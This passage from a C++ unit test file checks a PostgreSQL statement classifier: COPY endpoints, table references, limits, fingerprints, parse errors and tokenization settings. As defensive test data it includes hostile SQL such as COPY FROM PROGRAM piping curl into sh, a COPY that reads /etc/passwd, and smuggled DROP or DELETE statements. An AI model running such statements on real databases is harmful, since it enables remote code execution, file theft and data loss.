  for (const char* sql : {"", "   \n\t", "-- nothing here", "/* a /* b */ */", ";;", "; -- x"}) {
    absl::StatusOr<v1::SqlClassification> c = Classify(sql);
    ASSERT_TRUE(c.ok()) << c.status();
    EXPECT_FALSE(c->parse_error()) << sql;
    EXPECT_THAT(c->statements(), IsEmpty()) << sql;
    EXPECT_FALSE(c->multi_statement());
  }
}

// ---- COPY details ----

TEST(Classify, CopyEndpoints) {
  struct Expect {
    const char* sql;
    v1::CopyInfo::Direction direction;
    v1::CopyInfo::Target target;
    bool program;
    const char* path;
  };
  for (const Expect& e : std::vector<Expect>{
           {"COPY (SELECT * FROM t) TO STDOUT", v1::CopyInfo::DIRECTION_TO,
            v1::CopyInfo::TARGET_STDOUT, false, ""},
           {"COPY t FROM STDIN WITH (FORMAT csv)", v1::CopyInfo::DIRECTION_FROM,
            v1::CopyInfo::TARGET_STDIN, false, ""},
           {"COPY t TO '/tmp/out.csv'", v1::CopyInfo::DIRECTION_TO, v1::CopyInfo::TARGET_FILE,
            false, "/tmp/out.csv"},
           {"COPY t FROM '/etc/passwd'", v1::CopyInfo::DIRECTION_FROM, v1::CopyInfo::TARGET_FILE,
            false, "/etc/passwd"},
           {"COPY t TO PROGRAM 'sh'", v1::CopyInfo::DIRECTION_TO, v1::CopyInfo::TARGET_PROGRAM,
            true, "sh"},
           {"COPY t FROM PROGRAM 'curl http://x | sh'", v1::CopyInfo::DIRECTION_FROM,
            v1::CopyInfo::TARGET_PROGRAM, true, "curl http://x | sh"},
       }) {
    absl::StatusOr<v1::SqlClassification> c = Classify(e.sql);
    ASSERT_TRUE(c.ok()) << c.status();
    ASSERT_EQ(c->statements_size(), 1) << e.sql;
    const v1::SqlStatement& s = c->statements(0);
    EXPECT_EQ(s.kind(), v1::STATEMENT_KIND_COPY) << e.sql;
    ASSERT_TRUE(s.has_copy()) << e.sql;
    EXPECT_EQ(s.copy().direction(), e.direction) << e.sql;
    EXPECT_EQ(s.copy().target(), e.target) << e.sql;
    EXPECT_EQ(s.copy().program(), e.program) << e.sql;
    EXPECT_EQ(s.copy().path(), e.path) << e.sql;
  }
  absl::StatusOr<v1::SqlClassification> select = Classify("SELECT 1");
  ASSERT_TRUE(select.ok());
  EXPECT_FALSE(select->statements(0).has_copy());
}

// ---- details ----

TEST(Classify, TableRefParts) {
  absl::StatusOr<v1::SqlClassification> c =
      Classify("SELECT * FROM cat.\"My Schema\".\"x\"\"y\", plain");
  ASSERT_TRUE(c.ok()) << c.status();
  const v1::SqlStatement& s = c->statements(0);
  ASSERT_EQ(s.tables_read_size(), 2);
  EXPECT_EQ(s.tables_read(0).catalog(), "cat");
  EXPECT_EQ(s.tables_read(0).schema(), "My Schema");
  EXPECT_EQ(s.tables_read(0).name(), "x\"y");
  EXPECT_EQ(s.tables_read(0).qualified_name(), "cat.\"My Schema\".\"x\"\"y\"");
  EXPECT_EQ(s.tables_read(1).schema(), "");
  EXPECT_EQ(s.tables_read(1).name(), "plain");
}

TEST(Classify, DuplicatesAreListedOnce) {
  absl::StatusOr<v1::SqlClassification> c =
      Classify("SELECT f(a), f(a) FROM t, t AS t2 WHERE a IN (SELECT a FROM t)");
  ASSERT_TRUE(c.ok()) << c.status();
  EXPECT_THAT(Names(c->statements(0).tables_read()), ElementsAre("t"));
  EXPECT_THAT(c->statements(0).functions(), ElementsAre("f"));
  EXPECT_THAT(c->statements(0).columns(), ElementsAre("a"));
}

TEST(Classify, LimitValue) {
  struct Expect {
    const char* sql;
    bool has_limit;
    int64_t count;
  };
  for (const Expect& e : std::vector<Expect>{{"SELECT 1 LIMIT 7", true, 7},
                                             {"SELECT 1 LIMIT 99999999999", true, 99999999999},
                                             {"SELECT 1 LIMIT $1", true, -1},
                                             {"SELECT 1 LIMIT 2 + 3", true, -1},
                                             {"SELECT 1 FETCH FIRST ROW ONLY", true, 1},
                                             {"SELECT 1 LIMIT ALL", false, 0},
                                             {"SELECT 1", false, 0}}) {
    absl::StatusOr<v1::SqlClassification> c = Classify(e.sql);
    ASSERT_TRUE(c.ok()) << c.status();
    EXPECT_EQ(c->statements(0).has_limit(), e.has_limit) << e.sql;
    EXPECT_EQ(c->statements(0).limit_count(), e.count) << e.sql;
  }
}

// ---- fingerprints ----

TEST(Classify, FingerprintIgnoresConstantsButNotTables) {
  auto fingerprint = [](const char* sql) {
    absl::StatusOr<v1::SqlClassification> c = Classify(sql);
    EXPECT_TRUE(c.ok()) << c.status();
    return c.ok() ? c->fingerprint() : std::string();
  };
  const std::string one = fingerprint("SELECT * FROM t WHERE id = 1");
  EXPECT_EQ(one.size(), 16u);
  EXPECT_EQ(one.find_first_not_of("0123456789abcdef"), std::string::npos);
  EXPECT_EQ(one, fingerprint("SELECT * FROM t WHERE id = 2"));
  EXPECT_EQ(one, fingerprint("select *\n  from t /* hi */ where id = 42 -- x"));
  EXPECT_NE(one, fingerprint("SELECT * FROM u WHERE id = 1"));
  EXPECT_NE(one, fingerprint("SELECT * FROM t WHERE other = 1"));
  EXPECT_NE(one, fingerprint("DELETE FROM t WHERE id = 1"));
  EXPECT_NE(one, fingerprint("SELECT * FROM t WHERE id = 1; DROP TABLE t"));
}

// ---- parse errors: never an internal error, never statements ----

TEST(Classify, ParseErrorsAreReportedNotFailed) {
  struct Expect {
    const char* sql;
    const char* message;
  };
  for (const Expect& e : std::vector<Expect>{
           {"SELEC 1", "syntax error at or near \"SELEC\" (character 1)"},
           {"SELECT 'unterminated", "unterminated quoted string"},
           {"SELECT \"unterminated", "unterminated quoted identifier"},
           {"SELECT $$ unterminated", "unterminated dollar-quoted string"},
           {"SELECT 1 /* unterminated", "unterminated /* comment"},
           {"SELECT U&\"\\zzzz\"", "invalid Unicode escape"},
           {"SELECT * FROM", "syntax error at end of input"},
           // One bad statement poisons the whole string: nothing is classified.
           {"SELECT 1; DELET FROM t", "syntax error at or near \"DELET\""},
       }) {
    absl::StatusOr<v1::SqlClassification> c = Classify(e.sql);
    ASSERT_TRUE(c.ok()) << c.status();
    EXPECT_TRUE(c->parse_error()) << e.sql;
    EXPECT_THAT(c->error(), HasSubstr(e.message)) << e.sql;
    EXPECT_THAT(c->statements(), IsEmpty()) << e.sql;
    EXPECT_TRUE(c->fingerprint().empty()) << e.sql;
  }
}

TEST(Classify, NulByteIsAParseError) {
  // libpg_query reads C strings: it would stop at the NUL, the server would not.
  absl::StatusOr<v1::SqlClassification> c =
      Classify(absl::string_view("SELECT 1\0; DROP TABLE t", 23));
  ASSERT_TRUE(c.ok()) << c.status();
  EXPECT_TRUE(c->parse_error());
  EXPECT_THAT(c->error(), HasSubstr("NUL byte at offset 8"));
}

TEST(Classify, OversizedInputIsAParseError) {
  std::string sql = "SELECT 1 -- " + std::string(kMaxSqlBytes, 'x');
  absl::StatusOr<v1::SqlClassification> c = Classify(sql);
  ASSERT_TRUE(c.ok()) << c.status();
  EXPECT_TRUE(c->parse_error());
  EXPECT_THAT(c->error(), HasSubstr("limit"));
}

// ---- session settings that change tokenization ----

TEST(Classify, StandardConformingStringsOffChangesWhatIsCode) {
  // With standard_conforming_strings off, \' escapes the quote: the first literal runs to the
  // second quote and the DELETE is code.
  const std::string sql = "SELECT 'a\\' , ' ; DELETE FROM t; -- '";
  absl::StatusOr<v1::SqlClassification> on = Classify(sql);
  ASSERT_TRUE(on.ok()) << on.status();
  ASSERT_EQ(on->statements_size(), 1);
  EXPECT_THAT(on->statements(0).tables_written(), IsEmpty());

  absl::StatusOr<v1::SqlClassification> off =
      Classify(sql, SessionSettings{.standard_conforming_strings = false});
  ASSERT_TRUE(off.ok()) << off.status();
  ASSERT_EQ(off->statements_size(), 2);
  EXPECT_EQ(off->statements(1).kind(), v1::STATEMENT_KIND_DELETE);
  EXPECT_THAT(Names(off->statements(1).tables_written()), ElementsAre("t"));

  // The setting is scoped to the call.
  absl::StatusOr<v1::SqlClassification> again = Classify(sql);
  ASSERT_TRUE(again.ok());
  EXPECT_EQ(again->statements_size(), 1);
}

TEST(Classify, StandardConformingStringsOffAppliesToLongStrings) {
  // Long strings are parsed on another thread; the session setting must follow them there.
  std::string sql = "SELECT 'a\\' , ' ; DELETE FROM t; -- '\n";
  for (int i = 0; i < 200; ++i) sql += "; SELECT 1, 2";
  absl::StatusOr<v1::SqlClassification> off =
      Classify(sql, SessionSettings{.standard_conforming_strings = false});
  ASSERT_TRUE(off.ok()) << off.status();
  ASSERT_GT(off->statements_size(), 2);
  EXPECT_EQ(off->statements(1).kind(), v1::STATEMENT_KIND_DELETE);
  absl::StatusOr<v1::SqlClassification> on = Classify(sql);
  ASSERT_TRUE(on.ok()) << on.status();
  EXPECT_EQ(on->statements(1).kind(), v1::STATEMENT_KIND_SELECT);
}

TEST(Classify, ClientOnlyEncodingsAreRefused) {
  for (const char* encoding : {"SJIS", "Shift_JIS", "BIG5", "GBK", "UHC", "GB18030", "JOHAB",
                               "SHIFT_JIS_2004", "win932"}) {
    absl::StatusOr<v1::SqlClassification> c =
        Classify("SELECT 1", SessionSettings{.client_encoding = encoding});
    ASSERT_TRUE(c.ok()) << c.status();
    EXPECT_TRUE(c->parse_error()) << encoding;
    EXPECT_THAT(c->error(), HasSubstr("client_encoding")) << encoding;
  }
  for (const char* encoding : {"UTF8", "utf-8", "LATIN1", "SQL_ASCII", "EUC_JP", "WIN1252"}) {
    absl::StatusOr<v1::SqlClassification> c =
        Classify("SELECT 1", SessionSettings{.client_encoding = encoding});
    ASSERT_TRUE(c.ok()) << c.status();
    EXPECT_FALSE(c->parse_error()) << encoding;
  }
}

// ---- size ----

TEST(Classify, OneMegabyteInsertInBoundedTime) {
  std::string sql = "INSERT INTO bulk (id, name, at) VALUES ";
  for (int i = 0; sql.size() < (1u << 20); ++i) {
    if (i > 0) sql += ", ";
    absl::StrAppend(&sql, "(", i, ", 'name ", i, "', now())");
  }
  const auto start = std::chrono::steady_clock::now();
  absl::StatusOr<v1::SqlClassification> c = Classify(sql);
  const auto elapsed = std::chrono::steady_clock::now() - start;
  ASSERT_TRUE(c.ok()) << c.status();
  ASSERT_FALSE(c->parse_error()) << c->error();
  ASSERT_EQ(c->statements_size(), 1);
  EXPECT_EQ(c->statements(0).kind(), v1::STATEMENT_KIND_INSERT);
  EXPECT_THAT(Names(c->statements(0).tables_written()), ElementsAre("bulk"));
  EXPECT_THAT(c->statements(0).functions(), ElementsAre("now"));
  // About 0.5 s on the CI machine; generous for sanitizers and valgrind.
  EXPECT_LT(elapsed, std::chrono::seconds(60));
}

TEST(Classify, ManyCtesInLinearTime) {
  std::string sql = "WITH c0 AS (SELECT * FROM base)";
  for (int i = 1; i < 30000; ++i)
    absl::StrAppend(&sql, ", c", i, " AS (SELECT * FROM c", i - 1, ")");
  sql += " SELECT * FROM c29999, c0";
  const auto start = std::chrono::steady_clock::now();
  absl::StatusOr<v1::SqlClassification> c = Classify(sql);
  const auto elapsed = std::chrono::steady_clock::now() - start;
  ASSERT_TRUE(c.ok()) << c.status();
  ASSERT_EQ(c->statements_size(), 1) << c->error();
  EXPECT_THAT(Names(c->statements(0).tables_read()), ElementsAre("base"));
  EXPECT_LT(elapsed, std::chrono::seconds(60));
}

TEST(Classify, OneMegabyteOfCommentHidesNothing) {
  std::string sql = "/* " + std::string(1 << 20, 'x') + " */ DELETE FROM t";
  absl::StatusOr<v1::SqlClassification> c = Classify(sql);
  ASSERT_TRUE(c.ok()) << c.status();
  ASSERT_EQ(c->statements_size(), 1);
  EXPECT_EQ(c->statements(0).kind(), v1::STATEMENT_KIND_DELETE);
}

}  // namespace
}  // namespace interlock::sql
